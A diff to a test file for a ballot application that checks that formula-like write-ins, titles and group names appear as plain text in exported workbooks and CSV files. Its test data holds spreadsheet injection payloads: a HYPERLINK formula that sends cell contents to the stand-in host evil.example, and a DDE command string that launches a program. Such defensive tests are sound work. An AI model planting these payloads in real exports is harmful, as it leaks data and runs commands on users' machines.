@@ -19,6 +19,9 @@ from ballot.models import Meeting
 
 HYPERLINK = '=HYPERLINK("http://evil.example/x?"&A3,"查看详情")'
 WRITE_INS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
+# a write-in must be a name (the phone refuses the texts above), so the ballots write these names, each
+# on enough ballots to be named publicly, and the signed files are then given the formula texts instead
+WRITTEN = ["欧阳明", "上官婉", "司马光", "诸葛亮"]
 TITLE = "=1+2 常委会"
 GROUP = "@常委"
 
@@ -58,10 +61,10 @@ write_ins = true
     world.present(m.groups[0].id, 5)
     codes = world.codes(m.groups[0].id, 5)
     world.open(item.id)
-    for code in codes[:3]:
+    for code in codes:
         phone = app.test_client()
         phone.get(f"/v/{code}")
-        vote(phone, item.id, {f"w{i}": name for i, name in enumerate(WRITE_INS)})
+        vote(phone, item.id, {f"w{i}": name for i, name in enumerate(WRITTEN)})
     world.close(item.id)
     signing.create_key(tmp_path / "inst")
     with world.db.read() as s:
@@ -73,10 +76,15 @@ def test_write_ins_title_and_group_that_look_like_formulas_are_text_in_results_x
     xlsx = files["results.xlsx"]
     _no_formula(xlsx)
     texts = _cell_texts(xlsx)
-    assert {*WRITE_INS, TITLE, "-推荐人选"} <= texts  # read back exactly, no apostrophe added
-    # tab and CR cannot come through the ballot form (names are normalised), but the workbook does
-    # not rely on that: any string handed to it is a string cell
-    tally, ballots = json.loads(files["tally.json"]), json.loads(files["ballots.json"])
+    assert {*WRITTEN, TITLE, "-推荐人选"} <= texts  # read back exactly, no apostrophe added
+    # formula-like write-ins, tab and CR cannot come through the ballot form (names only), but the
+    # workbook does not rely on that: any string handed to it is a string cell
+    tally_text, ballots_text = files["tally.json"].decode(), files["ballots.json"].decode()
+    for name, formula in zip(WRITTEN, WRITE_INS, strict=True):
+        tally_text = tally_text.replace(name, json.dumps(formula, ensure_ascii=False)[1:-1])
+        ballots_text = ballots_text.replace(name, json.dumps(formula, ensure_ascii=False)[1:-1])
+    tally, ballots = json.loads(tally_text), json.loads(ballots_text)
+    assert {*WRITE_INS} <= _cell_texts(workbook.build(tally, ballots))
     tally["meeting"]["title"] = "\t=1+1"
     tally["items"][0]["title"] = "\r=2+2"
     ballots["items"][0]["title"] = "#DIV/0!"
@@ -113,7 +121,7 @@ def test_codes_csv_from_the_admin_page_neutralises_formula_text(app, world):
 def test_codes_csv_from_the_command_line_neutralises_formula_text(world, settings, tmp_path, monkeypatch):
     m = world.meeting(f'[meeting]\ntitle = "+{TITLE}"\n[[groups]]\nname = "{GROUP}"\nexpected = 3\n')
     monkeypatch.setenv("BALLOT_DATABASE_URL", settings.database_url)
-    monkeypatch.setenv("BALLOT_SECRET_KEY", "test-secret")
+    monkeypatch.setenv("BALLOT_SECRET_KEY", "test-secret-" + "x" * 32)
     out = tmp_path / "codes.csv"
     args = ["codes", "issue", "--instance", str(settings.instance_path), str(m.id), "--count", "2", "--csv", str(out)]
     r = CliRunner().invoke(main, args)
